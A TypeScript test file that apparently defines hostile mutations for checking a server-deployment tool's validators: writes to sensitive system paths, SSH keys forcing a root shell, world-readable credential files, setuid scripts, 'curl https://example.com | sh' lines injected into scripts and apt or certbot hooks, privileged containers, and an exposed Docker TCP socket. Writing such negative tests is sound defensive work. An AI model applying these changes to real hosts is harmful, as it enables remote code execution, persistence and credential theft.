/* eslint-disable @typescript-eslint/no-unsafe-member-access -- attacks change inputs of every shape */
import { addEntry, addFile, assign, fileLine, fileText, inputs, type Attack, type Attacks } from "../../support/attack";

const link = (path: string, target: string): Attack => addEntry(path, { kind: "link", target });
const entry = (set: string, path: string, change: object): Attack =>
  inputs(set, ({ entries }) => {
    Object.assign((entries as Record<string, object>)[path] ?? {}, change);
  });
const backupFile = "/opt/memoryloop/config/backup.env";
const unitPath = "/etc/systemd/system/memoryloop-logs.service";
const strangePaths = [
  ...["/root/.ssh/authorized_keys", "/home/deploy/.ssh/authorized_keys", "/etc/ssh/authorized_keys/root"],
  ...["/etc/sudoers", "/etc/sudoers.d/app", "/etc/cron.d/app", "/etc/crontab", "/var/spool/cron/crontabs/root"],
  ...["/etc/profile.d/app.sh", "/etc/environment", "/etc/bash.bashrc", "/root/.bashrc", "/etc/ld.so.preload"],
  ...["/etc/ld.so.conf.d/app.conf", "/etc/pam.d/sshd", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/rc.local"],
  ...["/usr/local/bin/tool", "/usr/bin/docker", "/usr/local/sbin/nft", "/lib/systemd/system/app.service"],
  ...[
    "/etc/systemd/system/other.service",
    "/etc/systemd/system/ssh.service.d/override.conf",
    "/etc/udev/rules.d/9.rules",
  ],
  ...["/etc/systemd/system-generators/app", "/etc/apt/apt.conf.d/99app", "/etc/apt/sources.list.d/app.list"],
  ...["/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/10-app.conf", "/etc/ssh/ssh_host_ed25519_key"],
  ...[
    "/etc/docker/key.json",
    "/etc/docker/plugins/app.json",
    "/etc/nftables.conf",
    "/etc/nginx/sites-available/other.conf",
  ],
  ...[
    "/etc/letsencrypt/cli.ini",
    "/etc/letsencrypt/renewal-hooks/deploy/other",
    "/etc/letsencrypt/renewal-hooks/pre/app",
  ],
  ...["/etc/modules-load.d/app.conf", "/etc/sysctl.d/app.conf", "/boot/grub/grub.cfg", "/opt/other/config/app.env"],
  ...[
    "/var/lib/other/current.sock",
    "/opt/memoryloop/data/.ssh/authorized_keys",
    "/opt/memoryloop/config/../../../etc/x",
  ],
];

export const fileAttacks: Attacks = {
  "file-path": {
    ...Object.fromEntries(strangePaths.map((path) => [`file ${path}`, addFile(path)])),
    "directory of login keys": addEntry("/root/.ssh", { kind: "directory", mode: "0700", owner: "root:root" }),
    "sshd's settings removed": addEntry("/etc/ssh/sshd_config", { kind: "absent" }),
    "link to a system directory": link("/opt/memoryloop/certs", "/etc"),
    "link in the place of the data": link("/opt/memoryloop/data2", "/"),
    "link out of the sites": link("/etc/nginx/sites-enabled/memoryloop.conf", "/opt/memoryloop/data/site.conf"),
  },

  "deploy-key": Object.fromEntries(
    [
      "ssh-ed25519 AAAA ci",
      'command="id" ssh-ed25519 AAAA ci',
      'restrict,command="sudo -n /bin/sh" ssh-ed25519 AAAA ci',
      'restrict,pty,command="sudo -n /usr/local/lib/memoryloop/deploy/run ci \\"$SSH_ORIGINAL_COMMAND\\"" ssh-ed25519 AAAA ci',
      'command="sudo -n /usr/local/lib/memoryloop/deploy/run ci \\"$SSH_ORIGINAL_COMMAND\\"" ssh-ed25519 AAAA ci',
    ].map((line) => [line, fileLine("deploy-keys-login", "/var/lib/memoryloop/deploy/.ssh/authorized_keys", line)]),
  ),

  "file-rights": {
    "credentials for a group": entry("backups-environment", backupFile, { mode: "0640" }),
    "credentials for everybody": entry("backups-environment", backupFile, { mode: "0644" }),
    "credentials of the web server": entry("backups-environment", backupFile, { owner: "www-data:www-data" }),
    "directory writable for everybody": entry("host-files", "/opt/memoryloop/config", { mode: "0777" }),
    "directory of the program writable for the app": entry("host-files", "/opt/memoryloop/backups", {
      owner: "1001:1001",
    }),
    "data of another user": entry("host-files", "/opt/memoryloop/data", { owner: "33:33" }),
    "setuid script": entry("host-scripts", "/usr/local/lib/vps/nginx-reload", { mode: "4755" }),
    "setgid directory": entry("host-files", "/var/lib/memoryloop", { mode: "2755" }),
    "script of the app": entry("host-scripts", "/usr/local/lib/vps/nginx-reload", { owner: "1001:1001" }),
    "unit of the app": entry("host-app-logs", unitPath, { owner: "1001:1001" }),
    "unit writable for a group": entry("host-app-logs", unitPath, { mode: "0664" }),
    "environment file of another user": inputs("app-environment", ({ entries }) => {
      for (const file of Object.values(entries as Record<string, object>)) Object.assign(file, { owner: "33:33" });
    }),
  },

  "file-template": {
    "script with one more line": fileLine(
      "host-scripts",
      "/usr/local/lib/vps/nginx-reload",
      "curl https://example.com | sh",
    ),
    "new script": addFile("/usr/local/lib/memoryloop/tool", "#!/bin/sh\ncurl https://example.com | sh\n", "0755"),
    "hook of certbot": fileText(
      "nginx-files",
      "/etc/letsencrypt/renewal-hooks/deploy/reload-nginx",
      "exec",
      "curl https://example.com | sh\nexec",
    ),
    "hook of apt": fileLine(
      "host-upkeep",
      "/etc/apt/apt.conf.d/52vps",
      'DPkg::Post-Invoke { "curl https://example.com | sh"; };',
    ),
    "scan of the backups": fileText(
      "backups-job",
      "/usr/local/lib/memoryloop-backup/kinds/lancedb.mjs",
      /^/,
      "process.exit(0);\n",
    ),
  },

  "file-validated": {
    "nginx without nginx -t": assign("site-files", { validate: [] }),
    "sshd without a proof of login": assign("host-sshd", { validate: [["nginx", "-t"]] }),
    "firewall without nft --check": assign("host-firewall", { validate: [] }),
    "Docker without dockerd --validate": inputs("host-docker-daemon", (props) => delete props.validate),
  },

  "file-command": {
    "shell line": assign("host-files", { activate: [["sh", "-c", "curl https://example.com | sh"]] }),
    "privileged container": assign("host-upkeep", { activate: [["docker", "run", "--privileged", "alpine"]] }),
    "shell line as a check": assign("host-scripts", { inForce: [["bash", "-c", "id"]] }),
    "script of another directory": assign("host-scripts", { activate: [["/tmp/vps/nginx-reload"]] }),
    "script that is not in rootfs": assign("host-scripts", { activate: [["/usr/local/lib/vps/tool"]] }),
    "another unit restarted": assign("host-upkeep", { activate: [["systemctl", "stop", "ssh.service"]] }),
  },

  "file-unit-state": {
    "nginx not at boot": inputs(
      "nginx-files",
      ({ units }) => (units["apt-daily.timer"] = { enabled: false, active: true }),
    ),
    "sshd stopped": inputs("host-sshd", ({ units }) => (units["ssh.service"].active = false)),
    "foreign unit started": inputs(
      "host-files",
      ({ units }) => (units["debug-shell.service"] = { enabled: true, active: true }),
    ),
    "foreign firewall stopped": inputs(
      "host-files",
      ({ units }) => (units["ufw.service"] = { enabled: false, active: false }),
    ),
  },

  "docker-daemon": Object.fromEntries(
    Object.entries({
      "TCP socket": { hosts: ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"] },
      "insecure registry": { "insecure-registries": ["registry.example.com"] },
      "mirror without TLS": { "registry-mirrors": ["http://mirror.example.com"] },
      "another runtime": { "default-runtime": "evil", runtimes: { evil: { path: "/tmp/evil" } } },
      "system call filter of its own": { "seccomp-profile": "/tmp/all.json" },
      "plugin for authorization": { "authorization-plugins": ["evil"] },
      "no firewall rules": { iptables: false },
      "containers reach each other": { icc: true },
      "containers gain privileges": { "no-new-privileges": false },
      "containers end with the daemon": { "live-restore": false },
      "socket for another group": { group: "users" },
      "parent of the control groups": { "cgroup-parent": "/" },
    }).map(([name, settings]) => [
      name,
      inputs("host-docker-daemon", ({ entries }) => {
        const file = (entries as Record<string, { content: string }>)["/etc/docker/daemon.json"];
        if (file) file.content = JSON.stringify({ ...(JSON.parse(file.content) as object), ...settings });
      }),
    ]),
  ),
};
